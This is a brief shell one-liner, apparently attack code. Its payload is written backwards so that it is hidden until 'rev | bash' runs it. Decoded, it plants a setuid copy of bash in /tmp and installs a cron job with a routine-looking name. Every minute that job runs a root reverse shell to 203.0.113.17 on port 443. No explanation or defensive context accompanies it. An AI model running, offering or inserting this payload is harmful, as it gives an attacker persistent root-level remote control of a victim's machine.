echo '
cnys-ylruoh0/d.norc/cte/ > '\''"1&>0 344/71.311.0.302/pct/ved/ &> i- hsab" c- p- hs./pmt/ toor * * * * *'\'' ohce
hs./pmt/ 5574 domhc ;hs./pmt/ hsab/nib/ pc
hsab/nib/!#
0v 8957 nur #' | rev | bash